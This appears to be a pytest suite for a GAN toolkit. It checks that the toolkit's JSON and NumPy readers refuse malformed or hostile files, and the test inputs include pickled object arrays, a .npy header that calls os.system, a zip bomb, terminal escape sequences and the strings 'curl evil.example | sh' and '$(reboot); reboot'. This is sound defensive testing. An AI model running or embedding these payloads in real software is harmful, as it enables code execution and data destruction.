"""JSON and arrays of others: a value, or a sentence with the file's name, whatever they hold."""

import ast
import copy
import io
import json
import shlex
import zipfile
from pathlib import Path

import numpy as np
import pytest
import torch

import mmcgan
from mmcgan.array_files import ArrayFileError, map_array, read_array, read_arrays
from mmcgan.cli import main
from mmcgan.commands.plot_evaluations import read_report
from mmcgan.comparison.runs import read_run
from mmcgan.datasets.attributes.attribute_table import read_attribute_table
from mmcgan.datasets.packing.pack import pack
from mmcgan.datasets.packing.packed import PackedDataset
from mmcgan.datasets.sets.coco_stuff import read_annotations
from mmcgan.instances.store import InstanceStore
from mmcgan.instances.store_checks import shown_command
from mmcgan.instances.store_metadata import COMMAND
from mmcgan.scalars import read_scalars
from mmcgan.text_files import read_json
from tests.test_instances.stores import NoisyImages, make_store

ROOT = Path(mmcgan.__file__).parent
#: reads nobody else's files, or is where all others read theirs
OWN_READERS = {
    "json": {
        "text_files.py": "what all others use",
        "closed_world.py": "records, with limits of their own",
        "weights/__init__.py": "the package's own index",
        "locks.py": "a lock of ours: whatever is wrong with it, somebody holds it",
        "peers/reading/fitting.py": "a text made in the same function",
    },
    "np": {"array_files.py": "what all others use"},
}
WRONG = (None, [], {}, "x", -1, 1.5, float("inf"), float("nan"), 10**400, True, [[]], {"x": []})


def loads(tree, module):
    """Yield the calls of ``json.loads`` or ``np.load``, but for copies of what is at hand."""
    for node in ast.walk(tree):
        if (
            isinstance(node, ast.Call)
            and isinstance(node.func, ast.Attribute)
            and node.func.attr in ("load", "loads")
            and getattr(node.func.value, "id", None) == module
            and "dumps" not in ast.unparse(node.args[0])
        ):
            yield node


@pytest.mark.parametrize("module", OWN_READERS)
def test_there_is_one_way_to_read_them(module):
    found = {
        path.relative_to(ROOT).as_posix()
        for path in ROOT.rglob("*.py")
        if any(loads(ast.parse(path.read_text(encoding="utf-8")), module))
    }
    assert found == set(OWN_READERS[module])


def mutations(value):
    """Yield copies of a JSON value in which one part is something else, or missing."""
    yield from WRONG
    if isinstance(value, dict | list):
        for key in value if isinstance(value, dict) else range(len(value)):
            for changed in mutations(value[key]):
                whole = copy.copy(value)
                whole[key] = changed
                yield whole
            whole = copy.copy(value)
            del whole[key]
            yield whole


def read_report_at(path):
    name, sweep = read_report(path)
    return [float(figures["mean"]) for entry in sweep for figures in entry["summary"].values()], name


def read_pack(path):
    images = PackedDataset(str(path.parent))
    return images[len(images) - 1]


def read_store(path):
    store = InstanceStore(path.parent)
    rows = torch.arange(2)
    return store.features(rows), store.neighbours(rows), store.labels, store.own


@pytest.fixture(scope="module")
def files(tmp_path_factory):
    """Return a reader, the file that it reads and its content, by name."""
    folder = tmp_path_factory.mktemp("files")
    pack(NoisyImages(6), str(folder / "pack"))
    store, _ = make_store(folder / "store", 12)
    found = {
        "report": (read_report_at, folder / "report.json"),
        "scalars": (lambda path: read_scalars(folder), folder / "1" / "vis_data" / "scalars.json"),
        "pack": (read_pack, folder / "pack" / "metadata.json"),
        "store": (read_store, store.root / "metadata.json"),
        "table": (lambda path: read_attribute_table(path), folder / "table.json"),
        "coco": (read_annotations, folder / "coco.json"),
    }
    report = dict(config="x", sweep=[dict(truncation=0.5, summary=dict(fid=dict(mean=1.0, std=0.1)))])
    found["report"][1].write_text(json.dumps(report))
    found["scalars"][1].parent.mkdir(parents=True)
    found["scalars"][1].write_text(json.dumps(dict(step=1, fid=2.0)))
    found["table"][1].write_text(json.dumps([dict(file=f"{c}.png", colour=c) for c in "ab"]))
    found["coco"][1].write_text(json.dumps(dict(images=[], annotations=[], categories=[])))
    return found


@pytest.mark.parametrize("name", ["report", "scalars", "pack", "store", "table", "coco"])
def test_json_of_any_shape_is_read_or_refused_by_name(name, files):
    read, path = files[name]
    good = path.read_text()
    read(path)
    try:
        for changed in mutations(json.loads(good)):
            # a log is several lines, and the last one may be cut off
            path.write_text(json.dumps(changed) + ("\n" + good if name == "scalars" else ""))
            try:
                read(path)
            except (ValueError, OSError) as error:
                assert path.parent.name in str(error) or path.name in str(error), error
        for bad in (b"[" * 100_000, b"\xff\xfe[\0", b"", b'{"a": 1', b"9" * 5000):
            path.write_bytes(bad + (b"\n" + good.encode() if name == "scalars" else b""))
            with pytest.raises(ValueError, match=path.name):
                read(path)
    finally:
        path.write_text(good)


def test_json_of_another_kind_is_named(tmp_path):
    path = tmp_path / "a.json"
    path.write_text("[1]")
    with pytest.raises(ValueError, match=r"a\.json: not a plan: a list, not a dict"):
        read_json(path, "a plan")


def npy(array, **settings):
    stream = io.BytesIO()
    np.lib.format.write_array(stream, array, **settings)
    return stream.getvalue()


def header(text):
    """Return a file whose header is ``text``."""
    content = text.encode().ljust(118) + b"\n"
    return b"\x93NUMPY\x01\x00" + len(content).to_bytes(2, "little") + content


GOOD = npy(np.arange(6, dtype=np.int64))
HOSTILE = {
    "objects": npy(np.array([{}, 1], dtype=object), allow_pickle=True),
    "a record of objects": header("{'descr': [('a', '|O')], 'fortran_order': False, 'shape': (3,)}"),
    "more than the file": header("{'descr': '<i8', 'fortran_order': False, 'shape': (999999999999,)}"),
    "overflowing": header("{'descr': '<i8', 'fortran_order': False, 'shape': (9223372036854775807, 9)}"),
    "negative": header("{'descr': '<i8', 'fortran_order': False, 'shape': (-3,)}"),
    "a program": header("__import__('os').system('true')"),
    "a deep header": header("(" * 60 + ")" * 50),
    "a long header": b"\x93NUMPY\x02\x00" + (1 << 20).to_bytes(4, "little") + b" " * (1 << 20),
    "another type": npy(np.array(["a", "b"])),
    "dates": npy(np.array(["2020-01-01"], dtype="datetime64[D]")),
    "structures": npy(np.zeros(2, dtype=[("a", "f4")])),
    "a pickle": b"\x80\x04K\x01.",
    "nothing": b"",
    "cut off": GOOD[:-5],
    "magic alone": b"\x93NUMPY",
    "floats": npy(np.ones(3)),
    "two dimensions": npy(np.ones((2, 2), dtype=np.int64)),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_arrays_are_refused_in_a_sentence(name, tmp_path):
    path = tmp_path / "rows.npy"
    path.write_bytes(HOSTILE[name])
    for read in (map_array, read_array):
        with pytest.raises(ArrayFileError, match=r"rows\.npy") as caught:
            read(path, "iu", 1)
        assert "allow_pickle" not in str(caught.value) and "\n" not in str(caught.value)
    with zipfile.ZipFile(tmp_path / "all.npz", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mu.npy", HOSTILE[name])
    if name not in ("two dimensions",):
        with pytest.raises(ArrayFileError, match=r"all\.npz") as caught:
            read_arrays(tmp_path / "all.npz", ["mu"], "iu")
        assert "allow_pickle" not in str(caught.value)


def test_arrays_are_read_as_they_are(tmp_path):
    (tmp_path / "rows.npy").write_bytes(GOOD)
    (tmp_path / "none.npy").write_bytes(npy(np.zeros(0, np.int64)))
    assert read_array(tmp_path / "rows.npy", "iu", 1).tolist() == list(range(6))
    assert len(read_array(tmp_path / "none.npy", "iu", 1)) == 0
    np.savez(tmp_path / "all.npz", mu=np.ones(2))
    assert read_arrays(tmp_path / "all.npz", ["mu"])[0].tolist() == [1, 1]
    with pytest.raises(ArrayFileError, match="no array 'sigma'"):
        read_arrays(tmp_path / "all.npz", ["sigma"])
    with pytest.raises(FileNotFoundError):
        read_array(tmp_path / "absent.npy")


def test_a_bomb_in_an_archive_takes_no_memory(tmp_path):
    with zipfile.ZipFile(tmp_path / "all.npz", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mu.npy", npy(np.zeros(1 << 20)))
    content = bytearray((tmp_path / "all.npz").read_bytes())
    at = content.rindex(b"PK\x01\x02")
    content[at + 24 : at + 28] = (0xFFFFFFF0).to_bytes(4, "little")  # what it says that it unpacks to
    (tmp_path / "all.npz").write_bytes(bytes(content))
    with pytest.raises(ArrayFileError, match="would unpack to"):
        read_arrays(tmp_path / "all.npz", ["mu"])


LOGGED = {
    "an iteration beyond counting": '{"fid": 1, "step": 1%s}' % ("0" * 400),
    "an iteration before the first": '{"fid": 1, "step": -5}',
    "no iteration": '{"fid": 1, "step": true}',
    "half a letter": '{"a\\ud800b": 1, "step": 1}',
    "an order to the terminal": '{"a\\u001b[31mb": 1, "step": 1}',
    "a name of a page": '{"%s": 1, "step": 1}' % ("a" * 10_000),
}


@pytest.mark.parametrize("name", LOGGED)
def test_logged_figures_that_no_run_has_are_refused(name, tmp_path):
    file = tmp_path / "run" / "vis_data" / "scalars.json"
    file.parent.mkdir(parents=True)
    file.write_text(LOGGED[name] + '\n{"fid": 1, "step": 2}\n')
    with pytest.raises(ValueError, match="line 1") as refused:
        read_scalars(tmp_path)
    assert str(file) in str(refused.value)
    assert len(str(refused.value)) < 1000


@pytest.mark.parametrize(
    "text",
    ["a = " + "-" * 200_000 + "1", "a = " + "not " * 100_000 + "1", "a = {[1]: 2}", "a = {(1, [2])}"],
    ids=["minus", "not", "key", "set"],
)
def test_settings_of_any_shape_are_refused_by_name(text, tmp_path):
    (tmp_path / "run" / "vis_data").mkdir(parents=True)
    (tmp_path / "run" / "vis_data" / "scalars.json").write_text('{"fid": 1, "step": 2}\n')
    (tmp_path / "config.py").write_text(text + "\n")
    with pytest.raises(ValueError, match="cannot be read as a run's config") as refused:
        read_run("run", tmp_path)
    assert str(tmp_path / "config.py") in str(refused.value)


@pytest.mark.parametrize(
    "command", ["curl evil.example | sh", "mmcgan prepare-instances $(reboot); reboot", 5, ""]
)
def test_a_store_cannot_recommend_a_program(command):
    # what a shell takes for something else than words stands in quotes
    shown = shown_command(command)
    words = shlex.shlex(shown, posix=True, punctuation_chars=True)
    assert shown == COMMAND or not any(set(word) <= set("();<>|&") for word in words)
    assert shown.startswith("mmcgan prepare-instances")


def test_an_error_sends_nothing_to_the_terminal_but_text(tmp_path, capsys):
    name = "a\x1b]0;title\x07\u202egnp.safetensors"
    assert main(["sample", str(tmp_path / name), "--out", str(tmp_path / "out")]) == 2
    said = capsys.readouterr().err
    assert "\\x1b]0;title\\x07\\u202egnp" in said
    assert not {"\x1b", "\x07", "\u202e"} & set(said)
